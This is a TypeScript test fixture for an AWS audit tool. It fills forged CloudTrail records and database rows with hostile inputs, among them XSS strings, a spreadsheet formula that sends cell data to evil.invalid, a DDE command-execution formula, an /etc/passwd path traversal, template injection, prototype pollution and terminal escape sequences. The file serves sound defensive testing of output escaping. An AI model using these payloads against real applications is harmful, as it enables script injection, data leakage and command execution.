import { execFile } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { Client } from 'pg';

/** What somebody may write who can name a session, a resource or a tag. `window.hostile` is there once any of it has run. */
export const attacks = {
  script: '</script><script>window.hostile=1</script>',
  attribute: `"'><img src=x onerror=window.hostile=1><svg/onload=window.hostile=1>`,
  address: 'javascript:window.hostile=1',
  formula: '=HYPERLINK("https://evil.invalid/"&A1)',
  formulas: `+1;-1;@SUM(1)\t=cmd|' /C calc'!A0`,
  terminal: '\u001b[2J\u001b]0;hostile\u0007\u009b2J',
  direction: '\u202egnp.exe\u2066',
  path: '../../../../etc/passwd',
  template: `{{constructor.constructor('window.hostile=1')()}}$\{window.hostile=1}<%= 1 %>`,
  property: '__proto__',
  lines: 'a\r\n{"level":60,"msg":"forged"}',
} as const;

export type Attack = keyof typeof attacks;
export const attackNames = Object.keys(attacks) as Attack[];

/** An account that no collector knows, so that what is put there stays. */
export const account = '777788889999';
export const region = 'eu-west-1';
export const kinds = ['domain', 'endpoint', 'training_job'] as const;

/** One text in every field that CloudTrail has, but the time, the account and what `kept` says. */
const record = (text: string, kept: object) => ({
  ...Object.fromEntries(
    ['eventVersion', 'eventSource', 'eventName', 'awsRegion', 'sourceIPAddress', 'userAgent', 'errorCode', 'errorMessage']
      .concat(['requestID', 'eventID', 'eventType', 'eventCategory', 'apiVersion', 'vpcEndpointId', 'sharedEventID', 'addendum'])
      .map((field) => [field, text]),
  ),
  eventTime: new Date(Date.now() - 60_000).toISOString().replace(/\.\d+/, ''),
  recipientAccountId: account,
  readOnly: false,
  managementEvent: true,
  userIdentity: {
    ...{ type: 'AssumedRole', principalId: text, arn: text, accountId: text, accessKeyId: text, userName: text, invokedBy: text },
    sessionContext: {
      sessionIssuer: { type: text, principalId: text, arn: text, accountId: text, userName: text },
      sourceIdentity: text,
    },
    onBehalfOf: { userId: text, identityStoreArn: text },
  },
  requestParameters: {
    endpointName: text,
    domainId: text,
    trainingJobName: text,
    [text]: text,
    tags: [{ key: text, value: text }],
  },
  responseElements: { [text]: text, endpointArn: text },
  additionalEventData: { [text]: text },
  serviceEventDetails: { [text]: text },
  resources: [{ ARN: text, accountId: text, type: text }],
  tlsDetails: { tlsVersion: text, cipherSuite: text, clientProvidedHostHeader: text },
  ...kept,
});

/** Of each attack one record whose every field is it, and one that stands where SageMaker's own stand. */
const records = (): object[] =>
  attackNames.flatMap((name) => [
    record(attacks[name], {}),
    record(attacks[name], {
      eventID: `hostile ${name}`,
      eventSource: 'sagemaker.amazonaws.com',
      eventName: 'UpdateEndpoint',
      awsRegion: region,
    }),
  ]);

async function trailwatch(home: string, ...words: string[]): Promise<string> {
  const args = [join(import.meta.dirname, '../bin/trailwatch.mjs'), ...words];
  const { stdout, stderr } = await promisify(execFile)(process.execPath, args, {
    env: { ...process.env, TRAILWATCH_HOME: home },
  });
  return stdout + stderr;
}

/** Has the command line import them, as a newcomer would. @returns what it said */
export async function importRecords(home: string): Promise<string> {
  const file = join(home, 'hostile.json');
  // JSON.stringify drops what is set under __proto__ in a literal; a computed key is a property like any other.
  writeFileSync(file, JSON.stringify({ Records: records() }));
  return trailwatch(home, 'audit', 'import', file);
}

/** Resources that are named, tagged and described by each attack. */
export async function saveResources(databaseUrl: string): Promise<void> {
  const client = new Client({ connectionString: databaseUrl });
  await client.connect();
  try {
    for (const text of Object.values(attacks)) {
      const tags = JSON.stringify({ [text]: text, team: text });
      const description = JSON.stringify({
        [text]: text,
        Status: text,
        FailureReason: text,
        DomainName: text,
        RoleArn: text,
        Url: text,
      });
      for (const kind of kinds) {
        await client.query(
          `with at as (select now() - interval '1 hour' as at), kept as (
             insert into resource (account, region, kind, name, arn, team, team_reason, tags, status, description, hash, created_at, first_seen_at, last_seen_at)
             select $1, $2, $3, $4, $4, 'search', 'tag ' || $4, $5, $4, $6, 'x', at, at, now() from at)
           insert into resource_version (account, region, kind, name, valid_from, configuration, hash) select $1, $2, $3, $4, at, $6, 'x' from at`,
          [account, region, kind, text, tags, description],
        );
      }
    }
  } finally {
    await client.end();
  }
}

/** Takes all of it away again: the tests that follow look at their own data. */
export async function forgetAll(databaseUrl: string, home: string): Promise<void> {
  const client = new Client({ connectionString: databaseUrl });
  await client.connect();
  try {
    for (const table of ['resource', 'resource_version', 'principal', 'event']) {
      await client.query(`delete from ${table} where account = $1`, [account]);
    }
    // What was tried at the door would slow down whoever signs in next.
    await client.query('delete from sign_in_failure');
    await trailwatch(home, 'audit', 'reindex');
  } finally {
    await client.end();
  }
}
